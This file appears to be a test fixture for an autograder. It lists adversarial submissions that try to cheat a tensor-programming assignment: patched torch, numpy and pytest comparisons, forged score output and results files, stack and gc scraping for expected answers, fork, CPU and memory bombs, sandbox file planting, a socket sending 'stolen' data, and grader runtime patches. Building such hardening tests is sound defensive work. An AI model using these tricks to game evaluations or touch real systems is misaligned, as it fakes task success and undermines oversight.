"""Submissions that attack the grader. Each is appended to the correct solution and replaces
one item with a wrong or cheating version; none may earn that item a point, or leave a file
outside its sandbox. Every attack is bounded in time, memory and processes, and harmless
even with --sandbox off (those that would touch the machine need the sandbox).
"""
from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    name: str
    item: str  # the item it tries to win without earning it ("" when it targets the grader itself)
    code: str
    needs_sandbox: bool = False
    loses_submission: bool = False  # the whole submission ends up with an error row
    scoped: bool = True  # False: it also breaks the student's own other items (a global patch)


WRONG_PAIRWISE = """
def pairwise_sq_dists(x, y):
    return torch.zeros(x.shape[0], y.shape[0], dtype=x.dtype, device=x.device)
"""

ATTACKS = [
    Attack("patch_torch_comparisons", "pairwise_sq_dists", WRONG_PAIRWISE + """
import torch.testing
torch.allclose = lambda *a, **k: True
torch.isclose = lambda a, b, *r, **k: torch.ones_like(a, dtype=torch.bool)
torch.equal = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
torch.Tensor.__eq__ = lambda self, other: True
torch.Tensor.allclose = lambda self, *a, **k: True
"""),
    Attack("patch_numpy_comparisons", "to_numpy", """
import numpy.testing
def to_numpy(t):
    return np.zeros(tuple(t.shape), dtype=t.detach().cpu().numpy().dtype)
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), dtype=bool)
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
"""),
    Attack("patch_math_pytest_unittest", "normalize_rows", """
import math, unittest
import pytest
def normalize_rows(x, eps=1e-12):
    return x.clone()
math.isclose = lambda *a, **k: True
pytest.approx = lambda expected, *a, **k: type("Any", (), {"__eq__": lambda s, o: True})()
unittest.TestCase.assertEqual = lambda *a, **k: None
unittest.TestCase.assertTrue = lambda *a, **k: None
unittest.TestCase.assertAlmostEqual = lambda *a, **k: None
"""),
    Attack("patch_tensor_methods", "attention_scores", """
def attention_scores(q, k):
    return torch.zeros(*q.shape[:-1], k.shape[-2], dtype=q.dtype, device=q.device)
for _name in ("__sub__", "__rsub__", "abs", "max", "sum", "__le__", "__lt__", "__ge__", "isnan", "all", "any"):
    setattr(torch.Tensor, _name, lambda self, *a, **k: torch.zeros((), dtype=torch.bool))
""", scoped=False),
    Attack("tensor_subclass_always_equal", "nhwc_to_nchw", """
class AlwaysEqual(torch.Tensor):
    def __eq__(self, other):
        return True
    __ne__ = lambda self, other: False
def nhwc_to_nchw(x):
    n, h, w, c = x.shape
    return torch.zeros(n, c, h, w, dtype=x.dtype, device=x.device).as_subclass(AlwaysEqual)
"""),
    Attack("duck_typed_result", "one_hot", """
class Anything:
    shape = property(lambda self: self._shape)
    dtype = torch.float32
    device = torch.device("cpu")
    def __init__(self, shape): self._shape = shape
    def __eq__(self, other): return True
    def __array__(self, *a, **k): return np.zeros(self._shape, dtype=np.float32)
    def numpy(self): return self.__array__()
    def is_contiguous(self): return True
def one_hot(labels, num_classes):
    return Anything((labels.shape[0], num_classes))
"""),
    Attack("walk_stack_frames", "pairwise_sq_dists", """
import sys
def pairwise_sq_dists(x, y):
    frame = sys._getframe(1)
    while frame is not None:
        for value in frame.f_locals.values():
            if isinstance(value, torch.Tensor) and value.shape == (x.shape[0], y.shape[0]) and value.dtype == torch.float64:
                return value.to(x.dtype)
        frame = frame.f_back
    return torch.zeros(x.shape[0], y.shape[0], dtype=x.dtype, device=x.device)
"""),
    Attack("scan_gc_for_expected_values", "pairwise_sq_dists", """
import gc
def pairwise_sq_dists(x, y):
    for obj in gc.get_objects():
        if type(obj) is torch.Tensor and obj.shape == (x.shape[0], y.shape[0]) and obj.dtype == torch.float64:
            return obj.to(x.dtype)
    return torch.zeros(x.shape[0], y.shape[0], dtype=x.dtype, device=x.device)
"""),
    Attack("patch_sys_modules", "normalize_rows", """
import sys, types
def normalize_rows(x, eps=1e-12):
    return x * 0
fake = types.ModuleType("fake")
fake.__getattr__ = lambda name: (lambda *a, **k: True)
for _name in list(sys.modules):
    if _name.startswith(("torch.testing", "numpy.testing", "autograder.checks", "pytest", "unittest")):
        sys.modules[_name] = fake
import autograder.runtime.wire as _wire
_wire.Encoder.encode = lambda self, obj: True
""", loses_submission=True),
    Attack("system_exit_in_item", "to_numpy", """
import sys
def to_numpy(t):
    sys.exit(0)
"""),
    Attack("keyboard_interrupt_in_item", "to_numpy", """
def to_numpy(t):
    raise KeyboardInterrupt
"""),
    Attack("custom_base_exception", "from_numpy_shared", """
class Escape(BaseException):
    pass
def from_numpy_shared(a):
    raise Escape("stop the grader")
"""),
    Attack("sys_exit_at_import", "attention_scores", """
import sys
def attention_scores(q, k):
    return q @ k.transpose(-2, -1)
sys.exit("stop loading here")
"""),
    Attack("os_exit_at_import", "", "import os\nos._exit(0)\n", loses_submission=True),
    Attack("os_exit_in_item", "one_hot", """
import os
def one_hot(labels, num_classes):
    os._exit(0)
"""),
    Attack("forged_json_on_stdout", "pairwise_sq_dists", WRONG_PAIRWISE.replace(
        "def pairwise_sq_dists(x, y):\n", "def pairwise_sq_dists(x, y):\n    print(FORGED)\n") + """
import json, os
FORGED = json.dumps({"assignment": "01_tensors", "max_score": 21.0, "submissions": [{"id": "x", "score": 21.0}]})
print(FORGED)
os.write(1, FORGED.encode() + b"\\n")
"""),
    Attack("all_tests_passed_on_stderr", "pairwise_sq_dists", WRONG_PAIRWISE + """
import os, sys
print("All tests passed! 21/21", file=sys.stderr)
os.write(2, b"All tests passed! score: 21/21\\n")
"""),
    Attack("forgery_at_exit", "pairwise_sq_dists", WRONG_PAIRWISE + """
import atexit, os
atexit.register(lambda: print('{"score": 21.0, "passed": true}'))
atexit.register(lambda: os.write(1, b"All tests passed\\n"))
"""),
    Attack("forged_results_files", "pairwise_sq_dists", WRONG_PAIRWISE + """
import json, os
for _path in ("results.json", "../results.json", "ATTACK_results.json", "gradebook.db", "../gradebook.db"):
    try:
        with open(_path, "w") as _f:
            json.dump({"score": 21.0, "tests": [{"score": 3, "max_score": 3}]}, _f)
    except OSError:
        pass
"""),
    Attack("files_outside_the_sandbox", "pairwise_sq_dists", WRONG_PAIRWISE + """
import os
for _path in ("/tmp/ATTACK_planted", os.path.expanduser("~/ATTACK_planted"), "/work/main/ATTACK_planted",
              "/work/main/gradebook.db", "/work/main/source/01_tensors/ATTACK_planted"):
    try:
        with open(_path, "a") as _f:
            _f.write("planted")
    except OSError:
        pass
""", needs_sandbox=True),
    Attack("ignore_sigalrm_then_loop", "normalize_rows", """
import signal
signal.signal(signal.SIGALRM, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
def normalize_rows(x, eps=1e-12):
    signal.alarm(0)
    while True:
        pass
"""),
    Attack("thread_mutates_returned_tensor", "pairwise_sq_dists", """
import threading, time
_right = pairwise_sq_dists
def pairwise_sq_dists(x, y):
    out = torch.zeros(x.shape[0], y.shape[0], dtype=x.dtype, device=x.device)
    def fill_later():
        time.sleep(0.05)
        out.copy_(_right(x, y).detach())
    threading.Thread(target=fill_later, daemon=True).start()
    return out
"""),
    Attack("seed_global_rng_to_predict_inputs", "pairwise_sq_dists", """
_right = pairwise_sq_dists
def pairwise_sq_dists(x, y):
    for seed in range(50):
        torch.manual_seed(seed)
        guess_x = torch.randn(*x.shape, dtype=x.dtype)
        if torch.equal(guess_x, x):
            return _right(x, y)
    return torch.zeros(x.shape[0], y.shape[0], dtype=x.dtype, device=x.device)
torch.manual_seed(0)
np.random.seed(0)
"""),
    Attack("change_default_dtype_and_device", "normalize_rows", """
torch.set_default_dtype(torch.float64)
torch.set_default_device("meta")
def normalize_rows(x, eps=1e-12):
    return torch.zeros_like(x)
"""),
    Attack("search_disk_for_solutions", "pairwise_sq_dists", """
import os
def pairwise_sq_dists(x, y):
    found = []
    for top in ("/work", "/root", "/home", "/tmp", "/srv", "/opt"):
        for root, dirs, files in os.walk(top):
            found += [os.path.join(root, f) for f in files if f in ("hidden_checks.py", "mutants.py", "gradebook.db")]
            found += [os.path.join(root, d) for d in dirs if d == "solutions"]
            if len(found) > 3:
                break
    if found:
        raise RuntimeError("FOUND: " + ", ".join(found))
    return torch.zeros(x.shape[0], y.shape[0], dtype=x.dtype, device=x.device)
""", needs_sandbox=True),
    Attack("cpu_bomb", "normalize_rows", """
import threading
def normalize_rows(x, eps=1e-12):
    def spin():
        while True:
            pass
    for _ in range(4):
        threading.Thread(target=spin, daemon=True).start()
    spin()
"""),
    Attack("memory_bomb", "normalize_rows", """
def normalize_rows(x, eps=1e-12):
    hoard = []
    for _ in range(64):
        hoard.append(torch.empty(1 << 28))  # 1 GiB each, untouched: the address-space limit stops it
    return x
"""),
    Attack("process_bomb", "normalize_rows", """
import os, time
def normalize_rows(x, eps=1e-12):
    for _ in range(40):
        try:
            if os.fork() == 0:
                time.sleep(30)
                os._exit(0)
        except OSError:
            break
    return x * 0
"""),
    Attack("tcp_connection", "pairwise_sq_dists", """
import os, socket
def pairwise_sq_dists(x, y):
    port = int(open(os.environ.get("ATTACK_PORT_FILE", "/nonexistent")).read()) if os.environ.get("ATTACK_PORT_FILE") else 0
    for host in ("127.0.0.1", "10.0.2.2"):
        try:
            socket.create_connection((host, port or 9), timeout=1).sendall(b"stolen")
        except OSError:
            pass
    return torch.zeros(x.shape[0], y.shape[0], dtype=x.dtype, device=x.device)
""", needs_sandbox=True),
    Attack("forged_frames_on_every_socket", "pairwise_sq_dists", WRONG_PAIRWISE.replace(
        "def pairwise_sq_dists(x, y):\n", "def pairwise_sq_dists(x, y):\n    forge()\n") + """
import json, os, socket, stat, struct
def forge():
    reply = json.dumps({"tree": {"$dict": [["value", [1.0]], ["raised", None]]}, "buffers": [], "seq": 1}).encode()
    for fd in range(3, 1024):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                for seq in range(1, 8):
                    os.write(fd, struct.pack("!Q", len(reply)) + reply.replace(b'"seq": 1', b'"seq": %d' % seq))
        except OSError:
            pass
"""),
    Attack("patch_the_grader_runtime", "pairwise_sq_dists", WRONG_PAIRWISE + """
import autograder.runtime.calls as _calls, autograder.runtime.wire as _wire
_calls.execute = lambda namespace, handles, request: {"value": 0.0, "raised": None}
_wire.Decoder.decode = lambda self, node: None
""", scoped=False),
]
